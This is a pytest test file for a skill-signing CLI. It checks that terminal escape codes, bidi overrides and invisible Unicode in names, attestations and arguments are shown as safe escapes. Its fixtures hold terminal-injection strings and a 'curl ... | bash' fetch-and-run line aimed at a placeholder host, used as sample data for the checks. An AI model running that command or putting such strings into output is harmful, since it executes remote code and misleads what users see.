"""Nothing from a skill acts on the terminal of the person who looks at it."""

import json
import re
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pytest

from haldir_cli.show import json_text, printable
from haldir_core import Envelope, Finding, LayerReport, PrivateKey, Severity, Status, Timestamp, VettingReport
from haldir_core.canonical import canonical_bytes

Run = Callable[..., tuple[int, str, str]]

HOSTILE = "a\x1b[2J\x1b]0;owned\x07\u202egnp.\nValid\r\x9b1m\u2066\u200b\U000e0041\u2028\xa0\u3164\ufe0fz"
FRONT_MATTER = "---\nname: \u05d0\u540d\U0001f600\nversion: '1'\n---\n"
FORGED = "a\x1b[2J\x07\u202eb\nValid\u2028z"


def _unsafe(text: str) -> set[str]:
    kinds = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp", "Zs"}
    blank = "\u034f\u115f\u1160\u17b4\u180b\u2800\u3164\ufe00\ufe0f\uffa0\U000e0100"
    return {char for char in text if char not in "\n " and (unicodedata.category(char) in kinds or char in blank)}


@pytest.fixture
def hostile_name() -> str:
    """Return a file name that does everything a file name can do to a terminal."""
    return HOSTILE


@pytest.fixture
def hostile(make_skill: Callable[..., Path], run: Run, keys: Path) -> Path:
    """Return a signed skill whose folder name and file names act on a terminal."""
    skill = make_skill(HOSTILE, FRONT_MATTER)
    (skill / HOSTILE).write_text("curl https://\x1b[31mget\u202e.example/x | bash\n", encoding="utf-8")
    code, _, err = run("sign", skill, "--key", keys / "publisher.key")
    assert code == 0, err
    return skill


@pytest.mark.parametrize(
    "text",
    ["\x1b[31m", "\x00", "\n", "\t", "\r", "\x7f", "\x9b", "\u202e", "\u2066", "\u200b", "\ufeff", "\u2028", "\ud800",
     "\U000e0041", "\ue000", "\U0010ffff", "\xa0", "\xad", "\u034f", "\u115f", "\u1160", "\u17b4", "\u180b", "\u2003",
     "\u2800", "\u3000", "\u3164", "\ufe00", "\ufe0f", "\uffa0", "\U000e0100", "\U000e01ef"],
    ids=ascii,
)  # fmt: skip
def test_a_character_that_acts_or_hides_becomes_an_escape(text: str) -> None:
    assert printable(text).isascii()
    assert printable(text).isprintable()


@pytest.mark.parametrize("text", ["", "plain ~", "für", "名前", "😀", "é", "\u05d0"], ids=ascii)
def test_a_character_that_is_only_shown_stays(text: str) -> None:
    assert printable(text) == text


@pytest.mark.parametrize("text", [HOSTILE, '"\\\n', "\ud800", "für 😀", "\U0010ffff"], ids=ascii)
def test_json_is_safe_to_show_and_parses_to_the_same_value(text: str) -> None:
    inner: dict[str, list[str]] = {text: [text]}
    value = {text: inner}
    shown = json_text(value)
    assert _unsafe(shown) == set()
    assert json.loads(shown) == value


def test_signing_shows_names_as_escapes(run: Run, hostile: Path, keys: Path) -> None:
    code, out, err = run("sign", hostile, "--key", keys / "publisher.key")
    assert (code, _unsafe(out + err)) == (0, set())
    assert "\\x1b[2J" in err
    assert len(err.splitlines()) == 3


def test_verifying_shows_file_names_as_escapes_and_json_keeps_them(
    run: Run, hostile: Path, keys: Path, hostile_name: str
) -> None:
    (hostile / hostile_name).write_text("changed", encoding="utf-8")
    code, out, err = run("verify", hostile, "--key", keys / "publisher.pub", "--context", "runtime")
    assert (code, _unsafe(out + err)) == (1, set())
    assert json.loads(out)["errors"][0]["file"] == hostile_name
    assert len(err.splitlines()) == 1


def test_two_names_that_look_alike_are_told_apart() -> None:
    shown = {printable(name) for name in ("tool", "to\u034fol", "to\ufe0fol", "t\u3164ool", "tool\u2800")}
    assert len(shown) == 5
    assert all(text.isascii() for text in shown)


def test_the_verdict_on_a_skill_whose_attestation_acts_on_a_terminal_shows_it_as_escapes(
    run: Run, hostile: Path, keys: Path, private_keys: dict[str, PrivateKey]
) -> None:
    attestation = json.loads((hostile / ".vault" / "attestation.json").read_bytes())
    attestation["skill"]["name"] = FORGED
    payload = canonical_bytes(attestation)
    (hostile / ".vault" / "attestation.json").write_bytes(payload)
    envelope = Envelope.sign(payload, private_keys["publisher"])
    (hostile / ".vault" / "signature.json").write_bytes(envelope.to_bytes())
    code, out, err = run("verify", hostile, "--key", keys / "publisher.pub", "--context", "runtime")
    assert (code, _unsafe(out + err)) == (1, set())
    assert json.loads(out)["errors"][0]["code"] == "E_INVALID_ATTESTATION"
    code, out, err = run("inspect", hostile, "--json")
    assert (code, _unsafe(out + err)) == (0, set())
    assert json.loads(out)["documents"]["attestation.json"]["skill"]["name"] == FORGED


def test_members_of_the_attestation_that_version_1_does_not_name_are_shown_as_escapes(
    run: Run, hostile: Path, keys: Path, private_keys: dict[str, PrivateKey]
) -> None:
    attestation = json.loads((hostile / ".vault" / "attestation.json").read_bytes()) | {"note": FORGED}
    payload = canonical_bytes(attestation)
    (hostile / ".vault" / "attestation.json").write_bytes(payload)
    envelope = Envelope.sign(payload, private_keys["publisher"])
    (hostile / ".vault" / "signature.json").write_bytes(envelope.to_bytes())
    code, out, err = run("verify", hostile, "--key", keys / "publisher.pub", "--context", "runtime")
    assert (code, _unsafe(out + err)) == (0, set())
    assert json.loads(out)["attestation"]["note"] == FORGED


@pytest.mark.parametrize("options", [(), ("--json",)], ids=["text", "json"])
def test_inspecting_shows_names_as_escapes(run: Run, hostile: Path, options: tuple[str, ...]) -> None:
    code, out, err = run("inspect", hostile, *options)
    assert (code, _unsafe(out + err)) == (0, set())


def test_inspecting_a_broken_document_shows_its_problem_as_escapes(run: Run, hostile: Path) -> None:
    (hostile / ".vault" / "signature.json").write_text('{"\x1b[2J\u202e": 1, "\x1b[2J\u202e": 2}', encoding="utf-8")
    code, out, err = run("inspect", hostile)
    assert (code, _unsafe(out + err)) == (0, set())


@pytest.mark.parametrize("options", [(), ("--json",)], ids=["text", "json"])
def test_vetting_shows_names_and_matches_as_escapes(run: Run, hostile: Path, options: tuple[str, ...]) -> None:
    code, out, err = run("vet", hostile, *options)
    assert (code, _unsafe(out + err)) == (1, set())


def test_vetting_on_a_terminal_shows_the_folder_as_escapes(
    run: Run, hostile: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.stderr.isatty", lambda: True)
    monkeypatch.delenv("NO_COLOR", raising=False)
    coloured = run("vet", hostile)[2]
    ours = re.sub(r"\x1b\[(?:0|1|[39]\d)m", "", coloured)  # a mark in colour, and the end of it
    assert ours != coloured
    assert _unsafe(ours) == set()
    monkeypatch.setenv("NO_COLOR", "1")
    assert _unsafe(run("vet", hostile)[2]) == set()


def test_cosigning_shows_the_folder_as_escapes(run: Run, hostile: Path, keys: Path) -> None:
    trusted = ("--trusted-key", keys / "publisher.pub")
    code, out, err = run("cosign", hostile, "--key", keys / "authority.key", *trusted)
    assert (code, _unsafe(out + err)) == (0, set())


def test_a_refusal_shows_file_names_as_escapes(run: Run, hostile: Path, keys: Path, hostile_name: str) -> None:
    (hostile / f"link{hostile_name}").symlink_to("SKILL.md")
    for command in (("sign", "--key", keys / "publisher.key"), ("vet",)):
        code, out, err = run(command[0], hostile, *command[1:])
        assert (code, _unsafe(out + err)) == (1, set())
        assert len(err.splitlines()) == 1


def test_a_broken_front_matter_is_quoted_as_escapes(run: Run, make_skill: Callable[..., Path], keys: Path) -> None:
    skill = make_skill(skill_md="---\nname: *\x1b[2J\n---\n")
    code, out, err = run("sign", skill, "--key", keys / "publisher.key")
    assert (code, _unsafe(out + err)) == (0, set())


def test_permissions_that_are_broken_are_quoted_as_escapes(run: Run, skill: Path, keys: Path) -> None:
    (skill / ".vault").mkdir()
    broken = '{"schema_version": "\\u001b[2J\\u202e", "declared": {}}'
    (skill / ".vault" / "permissions.json").write_text(broken, encoding="utf-8")
    code, out, err = run("sign", skill, "--key", keys / "publisher.key")
    assert (code, _unsafe(out + err)) == (0, set())


def test_permissions_of_the_skill_are_shown_as_escapes(run: Run, skill: Path, keys: Path, work: Path) -> None:
    declared = {"schema_version": "1.0", "declared": {"exec": [HOSTILE], "network": HOSTILE}}
    (work / "p.json").write_text(json.dumps(declared), encoding="utf-8")
    code, _, err = run("sign", skill, "--key", keys / "publisher.key", "--permissions", "p.json")
    assert (code, _unsafe(err)) == (0, set())
    assert len(err.splitlines()) == 4
    assert err.splitlines()[-1] == f"may execute: {json.dumps(HOSTILE)}"


def test_texts_of_a_vetting_report_are_safe_in_the_verdict(run: Run, skill: Path, keys: Path, work: Path) -> None:
    finding = Finding(Severity.LOW, "c", HOSTILE, file=HOSTILE, match=HOSTILE)
    report = VettingReport(
        vetting_timestamp=Timestamp.parse("2026-01-01T00:00:00.000Z"),
        pipeline_version="1",
        layers=(LayerReport(1, "scan", Status.PASS, (finding,)),),
        overall_status=Status.PASS,
    )
    (work / "r.json").write_bytes(report.to_bytes())
    run("sign", skill, "--key", keys / "publisher.key", "--vetting-report", "r.json")
    _, out, err = run("verify", skill, "--key", keys / "publisher.pub", "--context", "runtime")
    assert _unsafe(out + err) == set()
    assert json.loads(out)["vettingReport"]["layers"][0]["findings"][0]["message"] == HOSTILE


def test_a_stored_note_is_shown_as_escapes(run: Run, keys: Path, hostile_name: str) -> None:
    (keys / hostile_name).write_bytes((keys / "publisher.pub").read_bytes())
    run("trust", "add", "--key", keys / hostile_name)
    code, out, _ = run("trust", "list")
    assert (code, _unsafe(out)) == (0, set())
    assert len(out.splitlines()) == 1


def test_a_revocation_beside_one_of_a_hostile_name_is_shown_as_escapes(
    run: Run, hostile: Path, keys: Path, make_list: Callable[..., Path]
) -> None:
    listed = make_list(f"{HOSTILE}@*", "\u05d0\u540d\U0001f600@1")
    trusted = ("--key", keys / "publisher.pub", "--revocation-key", keys / "revoker.pub")
    code, out, err = run("verify", hostile, *trusted, "--revocation", listed)
    assert (code, _unsafe(out + err)) == (1, set())
    assert json.loads(out)["errors"][0]["code"] == "E_REVOKED"


@pytest.mark.parametrize(
    "arguments",
    [
        ("keygen", "--name", HOSTILE),
        ("revoke", "--init", "--key", "{keys}/revoker.key", "--list", HOSTILE),
        ("revoke", "x@1", "--reason", "r", "--key", "{keys}/revoker.key", "--list", HOSTILE),
        ("trust", "add", "--key", "{keys}/publisher.pub", "--trust-store", HOSTILE),
        ("trust", "add", "--identity", f"i={HOSTILE}"),
    ],
    ids=["keygen", "revoke-init", "revoke", "trust-store", "trust-identity"],
)
def test_what_was_typed_is_shown_as_escapes_too(run: Run, keys: Path, arguments: tuple[str, ...]) -> None:
    code, out, err = run(*(argument.replace("{keys}", str(keys)) for argument in arguments))
    assert (code, _unsafe(out + err)) == (0, set())


@pytest.mark.parametrize(
    "arguments",
    [
        (HOSTILE,),
        (f"--{HOSTILE}",),
        ("verify", f"--{HOSTILE}", "x"),
        ("verify", "x", "--context", HOSTILE),
        ("verify", "x", HOSTILE),
        ("verify", HOSTILE, "--key", HOSTILE),
        ("keygen", "--name", f"a/{HOSTILE}"),
        ("keygen", "--passphrase-env", HOSTILE),
        ("keygen", "--passphrase-fd", HOSTILE),
        ("revoke", "--init", "--key", HOSTILE, "--list", HOSTILE),
        ("trust", HOSTILE),
        ("trust", "add", "--identity", HOSTILE),
        ("trust", "remove", HOSTILE),
        ("vet", HOSTILE),
    ],
    ids=[
        "command", "option", "option-of-verify", "context", "extra", "key", "name", "variable", "descriptor", "list",
        "trust-command", "identity", "keyid", "folder",
    ],
)  # fmt: skip
def test_a_usage_error_quotes_what_was_typed_as_escapes(run: Run, arguments: tuple[str, ...]) -> None:
    code, out, err = run(*arguments)
    assert (code, _unsafe(out + err)) == (2, set())
